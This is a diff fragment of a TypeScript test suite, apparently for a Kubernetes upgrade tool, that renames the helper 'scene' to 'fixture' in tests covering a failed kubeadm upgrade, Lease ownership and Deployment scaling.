-      scene.host.onStart = () => {
-        void scene.lease.read().then((seen) => scene.lease.write(seen, OTHER, 1));
-        scene.clock.after(1, () => {
-          scene.host.finish(FIRST, 'failed 1 3 kubeadm upgrade', '');
+      fixture.host.onStart = () => {
+        void fixture.lease.read().then((seen) => fixture.lease.write(seen, OTHER, 1));
+        fixture.clock.after(1, () => {
+          fixture.host.finish(FIRST, 'failed 1 3 kubeadm upgrade', '');
         });
       };
-      const { message } = (await failureOf(scene.run())) as { message: string };
+      const { message } = (await failureOf(fixture.run())) as { message: string };
       expect(message).to.match(/^"kubeadm upgrade" ended with exit code 1/);
-      expect(scene.said.at(-1)).to.match(
+      expect(fixture.said.at(-1)).to.match(
         /^Deployments that are held at 0 are left to the exit handler: This run .* does not hold the Lease/,
       );
     });
 
     it('are not touched for a node that is done already', async () => {
-      scene.cluster.alterNode('cp1', { kubelet: TO, staticPods: staticPodsAt(TO) });
-      await scene.run();
-      expect(scene.deployments.writes).to.deep.equal([]);
+      fixture.cluster.alterNode('cp1', { kubelet: TO, staticPods: staticPodsAt(TO) });
+      await fixture.run();
+      expect(fixture.deployments.writes).to.deep.equal([]);
     });
   });
 
